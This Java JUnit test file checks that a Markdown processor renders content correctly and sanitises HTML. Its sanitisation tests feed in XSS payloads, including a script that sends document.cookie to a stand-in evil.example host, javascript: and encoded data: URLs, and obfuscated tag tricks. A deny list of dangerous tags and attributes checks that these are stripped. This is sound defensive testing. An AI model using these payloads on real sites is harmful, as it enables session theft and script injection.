package studio.reyna.processor;

import static org.assertj.core.api.Assertions.assertThat;
import static studio.reyna.processor.TestJson.json;
import static studio.reyna.processor.TestJson.settings;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.JsonNodeFactory;

class MarkdownProcessorTest {
    private static final String ONE_FIELD_SCHEMA = """
            {"type": "object", "properties": {"body": {"type": "string", "contentMediaType": "text/markdown"}}}""";

    private final MarkdownProcessor markdown = new MarkdownProcessor();

    private String render(String text) {
        return render(text, markdown.defaultSettings());
    }

    private String render(String text, JsonNode settings) {
        var data = JsonNodeFactory.instance.objectNode().put("body", text);
        JsonNode result = markdown.derive(ProcessorInput.ofBlob(data, json(ONE_FIELD_SCHEMA)), settings);
        return result.path("fields").path("/body").stringValue();
    }

    /** No executable element, no event handler, no URL outside http, https and mailto. */
    private static void assertSafe(String html) {
        var body = Jsoup.parseBodyFragment(html).body();
        for (Element element : body.getAllElements()) {
            assertThat(element.tagName()).as(html)
                    .isNotIn("script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "link", "meta", "base");
            for (Attribute attribute : element.attributes()) {
                assertThat(attribute.getKey()).as(html).doesNotStartWithIgnoringCase("on").isNotEqualToIgnoringCase("style");
                if (attribute.getKey().equals("href") || attribute.getKey().equals("src")) {
                    assertThat(attribute.getValue().toLowerCase(Locale.ROOT)).as(html).matches("(https?:|mailto:).*");
                }
            }
        }
        String lower = html.toLowerCase(Locale.ROOT);
        assertThat(lower).doesNotContain("<script", "javascript:", "data:", "onerror=", "onclick=");
    }

    @Test
    void renders_headings_lists_emphasis_code_links_and_tables() {
        String html = render("""
                # Title

                Some *emphasis*, **strong** and `inline code`.

                - one
                - two

                1. first

                ```java
                int x = 1 < 2 ? 1 : 2;
                ```

                > quoted

                ---

                [a link](https://example.com/page?x=1&y=2)

                | Name | Value |
                |------|-------|
                | a    | 1     |
                """);

        assertThat(html)
                .contains("<h1>Title</h1>")
                .contains("<em>emphasis</em>", "<strong>strong</strong>", "<code>inline code</code>")
                .contains("<ul>", "<li>one</li>", "<li>two</li>", "<ol>", "<li>first</li>")
                .contains("<pre><code>int x = 1 &lt; 2 ? 1 : 2;\n</code></pre>")
                .contains("<blockquote>", "<hr>")
                .contains("<a href=\"https://example.com/page?x=1&amp;y=2\" rel=\"nofollow noopener\">a link</a>")
                .contains("<table>", "<th>Name</th>", "<td>a</td>");
        assertSafe(html);
    }

    @Test
    void strips_script_tags_and_event_handlers() {
        String html = render("""
                Hello <script>alert(1)</script> world

                <script>
                document.location = 'https://evil.example/?' + document.cookie
                </script>

                <img src="https://example.com/a.png" onerror="alert(1)">
                <a href="https://example.com" onclick="alert(1)">click</a>
                <p onmouseover="alert(1)" style="position:fixed">hover</p>
                """);

        assertSafe(html);
        assertThat(html).doesNotContain("alert", "document.cookie")
                .contains("Hello", "world", "<img src=\"https://example.com/a.png\">", ">click</a>", "hover");
    }

    @Test
    void drops_javascript_and_data_urls_from_links_and_images() {
        String html = render("""
                [plain](javascript:alert(1))
                [mixed case](JaVaScRiPt:alert(1))
                [vb](vbscript:msgbox(1))
                [page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
                ![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
                <a href="javascript:alert(1)">raw</a>
                <img src="javascript:alert(1)">
                """);

        assertSafe(html);
        assertThat(html).doesNotContain("vbscript", "base64")
                .contains("plain", "mixed case", "vb", "page", "raw", "alt=\"pixel\"");
    }

    @Test
    void catches_nested_and_entity_encoded_tricks() {
        String html = render("""
                <scr<script>ipt>alert(1)</script>

                [entity](javascript&#58;alert(1))
                [decimal](&#106;avascript:alert(1))
                [tab](java&#x09;script:alert(1))
                <a href="jav&#x0A;ascript:alert(1)">newline</a>
                <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>
                <img src=x onerror=alert(1)//>
                <svg/onload=alert(1)>
                <iframe src="https://evil.example"></iframe>
                <style>body{display:none}</style>
                <form action="https://evil.example"><input name="password"></form>
                <object data="https://evil.example/x.swf"></object>
                """);

        assertSafe(html);
        assertThat(html).doesNotContain("display:none").contains("entity", "decimal", "tab", "newline", "hex");
    }

    @Test
    void raw_html_blocks_keep_only_allowed_elements_and_their_text() {
        String html = render("""
                <div class="note" id="x">
                <b>bold</b> and <marquee>moving</marquee> and <span title="t">span</span>
                </div>
                """);

        assertThat(html).contains("<div>", "<b>bold</b>", "moving", "<span>span</span>").doesNotContain("marquee", "class=", "id=");
        assertSafe(html);
    }

    @Test
    void links_get_nofollow_noopener_and_mailto_survives_but_relative_and_ftp_urls_do_not() {
        String html = render("""
                <mailto:someone@example.com> [ftp](ftp://example.com/file) [relative](/blobs/1) <https://example.com>
                """);

        assertThat(html)
                .contains("<a href=\"mailto:someone@example.com\" rel=\"nofollow noopener\">mailto:someone@example.com</a>")
                .contains("<a rel=\"nofollow noopener\">ftp</a>")
                .contains("<a rel=\"nofollow noopener\">relative</a>")
                .contains("<a href=\"https://example.com\" rel=\"nofollow noopener\">https://example.com</a>");
    }

    @Test
    void code_blocks_show_markup_as_text() {
        String html = render("""
                ```html
                <script>alert(1)</script>
                ```
                """);

        assertThat(html).isEqualTo("<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>\n");
    }

    @Test
    void finds_markdown_fields_in_nested_objects_arrays_and_local_refs() {
        JsonNode schema = json("""
                {"type": "object",
                 "properties": {
                   "title": {"type": "string"},
                   "body": {"$ref": "#/$defs/markdown"},
                   "author": {"type": "object", "properties": {"bio": {"type": "string", "contentMediaType": "text/markdown"}}},
                   "sections": {"type": "array", "items": {"$ref": "#/$defs/section"}},
                   "pair": {"type": "array", "prefixItems": [{"type": "string"}, {"$ref": "#/$defs/markdown"}]},
                   "a/b~c": {"$ref": "#/$defs/with%20space"}},
                 "$defs": {
                   "markdown": {"type": "string", "contentMediaType": "text/markdown"},
                   "section": {"type": "object", "properties": {"heading": {"type": "string"}, "text": {"$ref": "#/$defs/markdown"}}},
                   "with space": {"allOf": [{"$ref": "#/$defs/markdown"}]}}}""");
        JsonNode data = json("""
                {"title": "*not markdown*", "body": "*b*",
                 "author": {"bio": "**bio**"},
                 "sections": [{"heading": "h", "text": "one"}, {"heading": "h", "text": "_two_"}],
                 "pair": ["*plain*", "*md*"],
                 "a/b~c": "escaped"}""");

        JsonNode fields = markdown.derive(ProcessorInput.ofBlob(data, schema), markdown.defaultSettings()).path("fields");

        assertThat(fields.propertyNames()).containsExactly("/body", "/author/bio", "/sections/0/text", "/sections/1/text", "/pair/1", "/a~1b~0c");
        assertThat(fields.path("/body").stringValue()).isEqualTo("<p><em>b</em></p>\n");
        assertThat(fields.path("/author/bio").stringValue()).isEqualTo("<p><strong>bio</strong></p>\n");
        assertThat(fields.path("/sections/1/text").stringValue()).isEqualTo("<p><em>two</em></p>\n");
        assertThat(fields.path("/a~1b~0c").stringValue()).isEqualTo("<p>escaped</p>\n");
    }

    @Test
    void markdown_in_any_branch_of_a_oneof_is_rendered() {
        JsonNode schema = json("""
                {"type": "object", "properties": {"blocks": {"type": "array", "items": {"oneOf": [
                   {"properties": {"kind": {"const": "text"}, "content": {"type": "string", "contentMediaType": "text/markdown"}}},
                   {"properties": {"kind": {"const": "image"}, "url": {"type": "string"}}}]}}}}""");
        JsonNode data = json("""
                {"blocks": [{"kind": "image", "url": "https://example.com/a.png"}, {"kind": "text", "content": "# Hi"}]}""");

        JsonNode fields = markdown.derive(ProcessorInput.ofBlob(data, schema), markdown.defaultSettings()).path("fields");

        assertThat(fields.propertyNames()).containsExactly("/blocks/1/content");
        assertThat(fields.path("/blocks/1/content").stringValue()).isEqualTo("<h1>Hi</h1>\n");
    }

    @Test
    void returns_null_when_no_field_is_markdown() {
        JsonNode schema = json("""
                {"type": "object", "properties": {"body": {"type": "string", "contentMediaType": "text/html"}, "n": {"type": "integer"}}}""");

        assertThat(markdown.derive(ProcessorInput.ofBlob(json("{\"body\": \"# x\", \"n\": 1}"), schema), markdown.defaultSettings())).isNull();
        assertThat(markdown.derive(ProcessorInput.ofBlob(json("{\"other\": \"# x\"}"), json(ONE_FIELD_SCHEMA)), markdown.defaultSettings())).isNull();
        assertThat(markdown.derive(ProcessorInput.ofBlob(json("{\"body\": 5}"), json(ONE_FIELD_SCHEMA)), markdown.defaultSettings())).isNull();
    }

    @Test
    void ignores_remote_refs_and_terminates_on_reference_cycles() {
        JsonNode schema = json("""
                {"$ref": "#/$defs/node",
                 "$defs": {
                   "node": {"type": "object", "properties": {
                      "text": {"type": "string", "contentMediaType": "text/markdown"},
                      "children": {"type": "array", "items": {"$ref": "#"}},
                      "remote": {"$ref": "https://schemas.example/markdown.json"},
                      "anchor": {"$ref": "#markdown"},
                      "loop": {"$ref": "#/$defs/a"}}},
                   "a": {"allOf": [{"$ref": "#/$defs/b"}], "anyOf": [{"$ref": "#/$defs/a"}]},
                   "b": {"$ref": "#/$defs/a"}}}""");
        JsonNode data = json("""
                {"text": "root", "remote": "r", "anchor": "a", "loop": "l",
                 "children": [{"text": "child", "children": [{"text": "grandchild"}]}]}""");

        JsonNode fields = markdown.derive(ProcessorInput.ofBlob(data, schema), markdown.defaultSettings()).path("fields");

        assertThat(fields.propertyNames()).containsExactly("/text", "/children/0/text", "/children/0/children/0/text");
    }

    @Test
    void soft_breaks_become_line_breaks_only_when_asked() {
        assertThat(render("one\ntwo")).isEqualTo("<p>one\ntwo</p>\n");
        assertThat(render("one\ntwo", settings("{\"softBreaksAsLineBreaks\": true, \"tables\": true}"))).isEqualTo("<p>one<br>\ntwo</p>\n");
    }

    @Test
    void tables_can_be_turned_off() {
        String table = "| a | b |\n|---|---|\n| 1 | 2 |\n";

        assertThat(render(table)).contains("<table>");
        assertThat(render(table, settings("{\"softBreaksAsLineBreaks\": false, \"tables\": false}"))).doesNotContain("<table>").startsWith("<p>| a | b |");
    }

    @Test
    void survives_deeply_nested_markdown() {
        String quotes = "> ".repeat(20_000) + "deep";
        String brackets = "[".repeat(20_000) + "x" + "](https://example.com)".repeat(20_000);
        String emphasis = "*_".repeat(10_000) + "x" + "_*".repeat(10_000);
        String list = "- ".repeat(20_000) + "item";
        String html = "<div>".repeat(20_000) + "inner" + "</div>".repeat(20_000);

        for (String hostile : List.of(quotes, brackets, emphasis, list, html)) {
            String rendered = render(hostile);
            assertThat(rendered).isNotEmpty();
            assertSafe(rendered);
        }
    }

    @Test
    void renders_the_same_html_from_many_threads_at_once() throws Exception {
        String text = "# Title\n\n[link](https://example.com) <script>alert(1)</script> *x*\n\n| a |\n|---|\n| b |\n";
        String expected = render(text);
        List<Callable<String>> tasks = new ArrayList<>();
        for (int i = 0; i < 200; i++) {
            tasks.add(() -> render(text));
        }
        try (ExecutorService pool = Executors.newFixedThreadPool(8)) {
            for (Future<String> result : pool.invokeAll(tasks)) {
                assertThat(result.get()).isEqualTo(expected);
            }
        }
    }
}
